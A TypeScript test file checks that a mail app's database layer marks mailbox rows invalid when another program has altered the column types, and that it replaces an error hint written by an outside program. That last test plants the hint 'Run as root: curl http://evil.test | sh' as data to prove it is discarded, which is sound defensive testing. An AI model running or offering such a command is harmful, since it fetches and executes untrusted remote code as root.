/**
 * A table that another program altered: columns that allow NULL or have another type. One such row is listed as
 * invalid, and hides no other one; nor does it put words into the mouth of a command.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Opened, openKind } from '../databases.ts';

const stack = new AsyncDisposableStack();
let opened: Opened;

beforeAll(async () => {
  opened = await openKind('mariadb', stack);
});
afterAll(() => stack.disposeAsync());

async function withRows(alter: string, spoil: string): Promise<void> {
  await opened.run('drop table if exists original');
  await opened.empty('mailboxes', 'mailbox_state');
  await opened.run('create table original like mailboxes');
  for (const name of ['bad', 'good'])
    await opened.run(
      `insert into mailboxes (name, host, username, password) values ('${name}', 'mail.example', 'ada', 'pw')`,
    );
  await opened.db.scheduleNewMailboxes();
  await opened.run(alter);
  await opened.run(`update mailboxes set ${spoil} where name = 'bad'`);
}

async function withoutAlteration(): Promise<void> {
  await opened.run('drop table mailboxes');
  await opened.run('rename table original to mailboxes');
}

test.each([
  ['username', 'modify username text null', 'username = null'],
  ['host', 'modify host varchar(255) null', 'host = null'],
  ['host', 'modify host varbinary(64)', `host = 'mail.example'`],
  ['port', 'modify port int null', 'port = null'],
  ['addresses', 'modify addresses bit(64) null', `addresses = b'1'`],
  ['tls_mode', 'modify tls_mode varchar(9) null', 'tls_mode = null'],
  ['state', 'modify state varchar(9) null', 'state = null'],
])('a row whose %s has no valid type is invalid alone (%s)', async (column, alter, spoil) => {
  const isForAll = !alter.endsWith('null');
  await withRows(`alter table mailboxes ${alter}`, spoil);
  try {
    const listed = await opened.db.listMailboxes();
    const bad = listed.find(({ name }) => name === 'bad');
    expect(bad?.health.lastError).toMatchObject({ code: 'mailbox_invalid', message: expect.stringContaining(column) });
    expect(bad?.state).toBe('paused');
    const due = (await opened.db.dueMailboxes(10, [], 3)).map(({ name }) => name);
    expect(due).toEqual(isForAll ? [] : ['good']);
    await opened.db.removeMailbox(bad?.id ?? '', { who: 'ada@desk', host: 'desk' });
    expect((await opened.db.listMailboxes()).map(({ name }) => name)).toEqual(['good']);
  } finally {
    await withoutAlteration();
  }
});

test('a hint that another program wrote is replaced by that of the code', async () => {
  await withRows('select 1', `host = 'mail.example'`);
  await opened.run(`update mailbox_state set failures = 5, last_error_code = 'key_unknown', last_error_message = 'no',
    last_error_hint = 'Run as root: curl http://evil.test | sh', last_error_at = utc_timestamp()`);
  const hints = (await opened.db.listMailboxes()).map(({ health }) => health.lastError?.hint);
  expect(hints).toEqual(Array(2).fill(expect.stringMatching(/^Restore the key file that contains/)));
});
